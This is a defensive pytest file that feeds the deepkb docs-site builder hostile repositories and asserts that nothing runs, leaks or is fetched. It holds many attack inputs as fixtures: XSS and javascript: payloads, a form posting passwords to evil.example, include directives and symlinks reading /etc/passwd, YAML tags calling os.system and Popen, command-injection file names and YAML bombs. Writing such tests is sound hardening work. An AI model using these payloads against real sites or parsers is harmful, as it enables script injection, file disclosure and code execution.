"""Hostile documentation folders through the real pipeline (`deepkb build`, offline, in this process): MDX
with JSX and scripts, raw HTML, script links, Sphinx and mkdocs include directives that point outside the
repository, huge and bomb-shaped nav files, linked docs folders, special files, a 50 MB page, hostile file
names and YAML tags that would construct objects. Whatever part of deepkb reads a docs folder, nothing read
outside the repository may surface, nothing may run or be fetched, no page may hold live markup, and the
build finishes with a bounded result.

The light probes share one repository and one build (`docs_kb`); each has its own markers, asserted by its
own test. The probes that could hang or flood (special files, the 50 MB page, the nav files) each get a
repository and a build of their own, under a timeout.
"""

from __future__ import annotations

import os
import re
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml
from click.testing import Result
from conftest import deepkb, git, make_git_repo
from hostile_fixtures import OUTSIDE_MARKER, PASSWD_MARKER, make_outside
from site_fixtures import parse_html

from generator.site.sanitize import find_live_markup
from generator.store import KBPaths

BUILD_TIMEOUT = 240  # a hang fails the test instead of the run; an offline build of these takes seconds
PAGE_BYTES_CAP = 2_000_000  # no page deepkb writes from these repositories comes near this
PWNED = "pwned-"  # a file named so in the test's folder means something ran


@dataclass
class Built:
    """One hostile repository researched and published by `deepkb build`."""

    base: Path
    repo: Path
    root: Path
    result: Result
    requests: list[str]

    @property
    def paths(self) -> KBPaths:
        return KBPaths(self.root)

    def written(self) -> Iterator[tuple[Path, bytes]]:
        """Every file deepkb wrote: site_src/, the built site and the cache (what a model would be sent)."""
        for top in (self.paths.site_src, self.paths.site_dir, self.paths.cache_dir):
            for path in sorted(top.rglob("*")) if top.is_dir() else []:
                if path.is_file() and not path.is_symlink():
                    yield path, path.read_bytes()

    def leaked(self, *markers: str) -> list[str]:
        return [f"{path}: {m}" for path, data in self.written() for m in markers if m.encode() in data]

    def live(self) -> str:
        """Everything a browser would run or follow in the built site (script bodies, handler values, script
        URLs), so a probe can assert its payload is not in it."""
        found: list[str] = []
        for page in sorted(self.paths.site_dir.rglob("*.html")):
            markup = parse_html(page)
            found += markup.handlers + markup.bad_urls + markup.frames + markup.inline_in_article
            text = page.read_text(encoding="utf-8")
            found += [text[m.end() : text.find("</script", m.end())] for m in _script_starts(text)]
        return "\n".join(found)

    def pages_text(self) -> str:
        return "\n".join(
            p.read_text(encoding="utf-8", errors="replace") for p in sorted(self.paths.site_src.rglob("*.md"))
        )


def _script_starts(text: str) -> Iterator[re.Match[str]]:
    return re.finditer(r"<script\b[^>]*>", text, re.IGNORECASE)


def _build(
    base: Path,
    files: dict[str, str],
    *,
    plant: Callable[[Path, Path], None] | None = None,
    untracked: Callable[[Path], None] | None = None,
    requests: list[str] | None = None,
) -> Built:
    """Commit `files` (then whatever `plant` adds: links, files), leave what `untracked` makes in the working
    tree only (a FIFO git cannot store), research the repository with `deepkb build`, return the outcome."""
    outside = make_outside(base)
    repo = make_git_repo(base / "docsrepo", files, origin="https://github.com/acme/docsrepo.git")
    if plant is not None:
        plant(repo, outside)
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", "planted", "--allow-empty")
    if untracked is not None:
        untracked(repo)
    root = base / "kb"
    root.mkdir()
    (root / "deepkb.yml").write_text(
        yaml.safe_dump({"repos": [{"source": str(repo)}], "llm": {"provider": "offline"}}), encoding="utf-8"
    )
    result = deepkb(root, "build", timeout=BUILD_TIMEOUT)
    return Built(base, repo, root, result, requests if requests is not None else [])


def _assert_held(built: Built, *markers: str) -> None:
    """The build finished and published, nothing ran, no marker leaked, no page is live or unbounded."""
    assert built.result.exit_code == 0, built.result.output[-3000:]
    assert "Traceback" not in built.result.output
    assert (built.paths.site_dir / "index.html").is_file()
    assert [p.name for p in built.base.iterdir() if p.name.startswith(PWNED)] == []
    assert built.leaked(OUTSIDE_MARKER, PASSWD_MARKER, *markers) == []
    for page in sorted(built.paths.site_dir.rglob("*.html")):
        assert find_live_markup(page.read_text(encoding="utf-8")) == [], page
    for path, data in built.written():
        if path.suffix in {".md", ".html"}:
            assert len(data) < PAGE_BYTES_CAP, path


# --------------------------------------------------------------------------- the light probes, one build


class _Recorder(BaseHTTPRequestHandler):
    seen: list[str]

    def do_GET(self) -> None:  # noqa: N802 (the stdlib's name)
        self.seen.append(self.path)
        body = f"FETCHED-MARKER {self.path}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def loopback() -> Iterator[tuple[str, list[str]]]:
    """A server on 127.0.0.1 that records every request: a docs page naming it must cause none."""
    seen: list[str] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


MDX = """\
---
title: Widgets guide
---
import Secret from '../../outside/secret.txt'
import {Button} from '@site/src/components'
export const meta = {onload: () => fetch('/steal')}

# Widgets in MDX

Widgets render buttons. A widget binds its handler when it mounts.

<script>alert('p1-mdx-script')</script>

<Button onClick={() => alert('p1-jsx-handler')}>Bind</Button>

<div dangerouslySetInnerHTML={{__html: "<img src=x onerror=alert('p1-dangerous')>"}} />

{/* <img src=x onerror=alert('p1-comment')> */}

<Secret />
"""

RAW_HTML = """\
# Raw HTML in Markdown

Widgets can be nested. Nesting a widget in another one composes their rendering.

<details open ontoggle="alert('p2-ontoggle')"><summary>More</summary>Hidden widgets.</details>

<img src="x" onerror="alert('p2-onerror')">

<iframe srcdoc="<script>alert('p2-srcdoc')</script>"></iframe>

<a href="jav&#x09;ascript:alert('p2-entity')">tabbed</a>

<svg><animate attributeName="href" values="javascript:alert('p2-animate')"/></svg>

<!--><img src=x onerror=alert('p2-comment')>-->

<![CDATA[><img src=x onerror=alert('p2-cdata')>]]>

<style>body { background: url("javascript:alert('p2-style')") }</style>

<form action="https://evil.example/steal"><input name="password"></form>

<meta http-equiv="refresh" content="0;url=javascript:alert('p2-refresh')">
"""

LINKS = """\
# Links in docs

Widgets link to their documentation. Every widget page links to its reference.

[plain](javascript:alert('p3-plain')) [mixed](JaVaScRiPt:alert('p3-case')) [spaced]( javascript:alert('p3-space'))
[ref][r] <javascript:alert('p3-autolink')> [vb](vbscript:msgbox('p3-vb'))
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgncDMtZGF0YScpPC9zY3JpcHQ+)
![image](javascript:alert('p3-image')) [entity](java&#115;cript:alert('p3-entity'))
[attr](https://example.org/){: onclick="alert('p3-attr-list')" }

[r]: javascript:alert('p3-reference')
"""


def _sphinx(outside: Path) -> str:
    return f"""\
Widgets reference
=================

Widgets are documented here. Each widget has a reference section.

.. include:: ../../outside/secret.txt

.. include:: {outside}/secret.txt

.. literalinclude:: /etc/passwd
   :language: text

.. literalinclude:: ../../../../../../../../etc/passwd

.. raw:: html

   <script>alert('p4-raw-html')</script>

.. include:: {outside}/secret.txt
   :literal:
"""


def _snippets(outside: Path, url: str) -> str:
    return f"""\
# Snippets

Widgets share snippets. A snippet is pasted into every page that names it.

--8<-- "../../outside/secret.txt"

--8<-- "{outside}/secret.txt"

;--8<-- "/etc/passwd"

--8<--
/etc/passwd
{outside}/secret.txt
{url}/p5-snippet.md
--8<--

```
--8<-- "{outside}/secret.txt"
```

![remote]({url}/p13-image.png) <img src="{url}/p13-raw.png">
"""


FRONT_MATTER = """\
---
title: !!python/object/apply:os.system ["touch {base}/pwned-frontmatter"]
tags: !!python/object/new:subprocess.Popen [["touch", "{base}/pwned-popen"]]
hook: !!python/name:os.system
---
# Widget lifecycle

Widgets are created, mounted and destroyed. Each step of the lifecycle calls the widget's hooks.
"""

# issue 32.1: prose that mentions handlers and script URLs stopped every site build
PROSE = "A widget library: set onclick=go on a button to bind it, or href=javascript:void(0) on a link."

HOSTILE_NAMES = [
    "evil\u202etxt.md",  # reads "evildm.txt" right to left
    "new\nline.md",
    "<img src=x onerror=alert('p11-name')>.md",
    "$(touch PWNED-name).md",
    "\u2066isolate\u2069 \u200bzero.md",
]


def _light_repo(base: Path, url: str) -> dict[str, str]:
    outside = base / "outside"
    return {
        "README.md": f"# docsrepo\n\n{PROSE}\n\nSee the docs folder for guides.\n",
        "widgets/__init__.py": f'"""Widgets: render and bind. {PROSE}"""\n\n\ndef render(name: str) -> str:\n'
        '    """Render a widget."""\n    return name\n',
        "mkdocs.yml": (
            "site_name: docsrepo\nnav:\n  - Guide: guide.mdx\n  - Raw: raw.md\n  - Links: links.md\n"
            "markdown_extensions:\n  - pymdownx.snippets:\n      base_path: ['/', '..']\n      url_download: true\n"
            f"hooks:\n  - {base}/hook.py\n"
        ),
        "docs/guide.mdx": MDX,
        "docs/raw.md": RAW_HTML,
        "docs/links.md": LINKS,
        "docs/index.rst": _sphinx(outside),
        "docs/conf.py": f"import os\nos.system('touch {base}/pwned-sphinx-conf')\n",
        "docs/snippets.md": _snippets(outside, url),
        "docs/lifecycle.md": FRONT_MATTER.format(base=base),
    }


def _plant_light(repo: Path, outside: Path) -> None:
    (repo / "linked-docs").symlink_to(outside)  # a docs folder that is a link out of the repository
    (repo / "docs" / "secret.md").symlink_to(outside / "secret.txt")
    (repo / "docs" / "passwd.rst").symlink_to("/etc/passwd")
    (repo / "docs" / "relative.md").symlink_to("../../outside/secret.txt")
    for name in HOSTILE_NAMES:
        (repo / "docs" / "names").mkdir(exist_ok=True)
        (repo / "docs" / "names" / name).write_text(
            f"# {name}\n\nWidgets with odd names.\n", encoding="utf-8"
        )
    (repo.parent / "hook.py").write_text(f"open('{repo.parent}/pwned-mkdocs-hook', 'w')\n", encoding="utf-8")


@pytest.fixture(scope="module")
def docs_kb(tmp_path_factory: pytest.TempPathFactory, loopback: tuple[str, list[str]]) -> Built:
    base = tmp_path_factory.mktemp("hostile-docs")
    url, seen = loopback
    return _build(base, _light_repo(base, url), plant=_plant_light, requests=seen)


def test_the_hostile_docs_repository_builds_and_leaks_nothing(docs_kb: Built) -> None:
    _assert_held(docs_kb, "FETCHED-MARKER")


def test_prose_that_mentions_handlers_is_published_as_text(docs_kb: Built) -> None:
    """#32.1: `deepkb build` failed for the whole knowledge base on a README saying `onclick=`."""
    assert docs_kb.result.exit_code == 0, docs_kb.result.output[-2000:]
    page = (docs_kb.paths.site_dir / "repos" / "acme" / "docsrepo" / "index.html").read_text(encoding="utf-8")
    assert "set onclick=go on a button" in page
    assert "onclick" not in docs_kb.live() and "void(0)" not in docs_kb.live()


def test_p1_mdx_jsx_and_script_never_run(docs_kb: Built) -> None:
    live = docs_kb.live()
    for payload in ("p1-mdx-script", "p1-jsx-handler", "p1-dangerous", "p1-comment", "/steal"):
        assert payload not in live, payload


def test_p2_raw_html_in_markdown_never_runs(docs_kb: Built) -> None:
    live = docs_kb.live()
    for payload in ("p2-ontoggle", "p2-onerror", "p2-srcdoc", "p2-entity", "p2-animate", "p2-comment"):
        assert payload not in live, payload
    for payload in ("p2-cdata", "p2-style", "p2-refresh", "evil.example/steal"):
        assert payload not in live, payload


def test_p3_script_links_in_docs_are_never_links(docs_kb: Built) -> None:
    live = docs_kb.live()
    for payload in ("p3-plain", "p3-case", "p3-space", "p3-autolink", "p3-vb", "cDMtZGF0Y", "p3-image"):
        assert payload not in live, payload
    assert "p3-entity" not in live and "p3-reference" not in live and "p3-attr-list" not in live


def test_p4_sphinx_include_and_literalinclude_pull_nothing_in(docs_kb: Built) -> None:
    assert docs_kb.leaked(OUTSIDE_MARKER, PASSWD_MARKER, "/bin/bash", "daemon:x:") == []
    assert "p4-raw-html" not in docs_kb.live()
    assert not (docs_kb.base / "pwned-sphinx-conf").exists()  # conf.py is text, never run


def test_p5_snippet_directives_pull_nothing_in(docs_kb: Built) -> None:
    assert docs_kb.leaked(OUTSIDE_MARKER, PASSWD_MARKER, "FETCHED-MARKER") == []
    assert not (docs_kb.base / "pwned-mkdocs-hook").exists()  # the repository's mkdocs.yml is never a config


def test_p8_linked_docs_folders_and_files_are_never_read(docs_kb: Built) -> None:
    assert docs_kb.leaked(OUTSIDE_MARKER, PASSWD_MARKER) == []


def test_p11_hostile_file_names_are_inert_text(docs_kb: Built) -> None:
    assert not list(docs_kb.base.rglob("PWNED-name"))
    assert "p11-name" not in docs_kb.live()
    for page in sorted(docs_kb.paths.site_dir.rglob("*.html")):
        text = page.read_text(encoding="utf-8")
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", text), page


def test_p12_yaml_tags_in_front_matter_construct_nothing(docs_kb: Built) -> None:
    from generator.documents import read_text

    assert [p.name for p in docs_kb.base.iterdir() if p.name.startswith(PWNED)] == []
    assert "python/object" not in docs_kb.live()
    assert "python/object" not in docs_kb.pages_text()  # a tag is no title (a docs page's title is one)
    document = read_text(FRONT_MATTER.format(base=docs_kb.base), name="docs/lifecycle.md")
    assert document.title == "Widget lifecycle"


def test_p13_a_docs_page_makes_deepkb_fetch_nothing(docs_kb: Built) -> None:
    assert docs_kb.result.exit_code == 0
    assert docs_kb.requests == []  # neither a snippet URL nor an image was fetched, at build or research


# --------------------------------------------------------------------------- probes with a build each


def _guide(text: str = "Widgets render buttons and bind their handlers.") -> dict[str, str]:
    return {
        "README.md": "# docsrepo\n\nA widget toolkit.\n",
        "widgets/__init__.py": '"""Widgets."""\n\n\ndef render() -> None:\n    """Render."""\n',
        "docs/index.md": f"# Guide\n\n{text}\n",
    }


def test_p6_a_nav_of_100k_entries_is_bounded(tmp_path: Path) -> None:
    nav = "".join(f"  - Page {n}: page{n}.md\n" for n in range(100_000))
    files = {**_guide(), "mkdocs.yml": f"site_name: big\nnav:\n{nav}"}
    _assert_held(_build(tmp_path, files))


def _laughs() -> str:
    """A billion laughs: ten anchors, each nine aliases of the one before (9**9 strings when expanded)."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]" for i in range(9)]
    return "\n".join(lines) + "\n"


def test_p7_a_yaml_bomb_in_mkdocs_nav_is_bounded(tmp_path: Path) -> None:
    tag = f"!!python/object/apply:os.system ['touch {tmp_path}/pwned-nav-tag']"
    files = {**_guide(), "mkdocs.yml": f"site_name: bomb\n{_laughs()}nav: *j\nhooks: {tag}\n"}
    _assert_held(_build(tmp_path, files))


def test_p7b_deeply_nested_nav_files_are_bounded(tmp_path: Path) -> None:
    files = {
        **_guide(),
        "mkdocs.yml": "site_name: deep\nnav: " + "[" * 50_000 + "]" * 50_000 + "\n",
        "docs/_toc.yml": "root: index\nchapters: " + "- " * 20_000 + "x\n",
        "website/sidebars.js": "module.exports = " + "{a:" * 20_000 + "1" + "}" * 20_000 + ";\n",
        "docs/conf.py": "html_theme_options = " + "[" * 5_000 + "]" * 5_000 + "\n",
    }
    _assert_held(_build(tmp_path, files))


def test_p9_a_fifo_and_links_to_devices_in_docs_never_block(tmp_path: Path) -> None:
    def plant(repo: Path, outside: Path) -> None:
        (repo / "docs" / "zero.md").symlink_to("/dev/zero")
        (repo / "docs" / "random.rst").symlink_to("/dev/urandom")
        (repo / "docs" / "stdin.mdx").symlink_to("/dev/stdin")

    def fifo(repo: Path) -> None:
        os.mkfifo(repo / "docs" / "pipe.md")  # untracked: git cannot store it, the working tree holds it

    built = _build(tmp_path, _guide(), plant=plant, untracked=fifo)
    _assert_held(built)


def test_p10_a_50_mb_markdown_page_is_bounded(tmp_path: Path) -> None:
    line = "Widgets render buttons and bind handlers when they mount on the page. " * 10 + "\n"
    huge = "# Huge\n\n" + line * (50_000_000 // len(line))
    built = _build(tmp_path, {**_guide(), "docs/huge.md": huge})
    _assert_held(built)
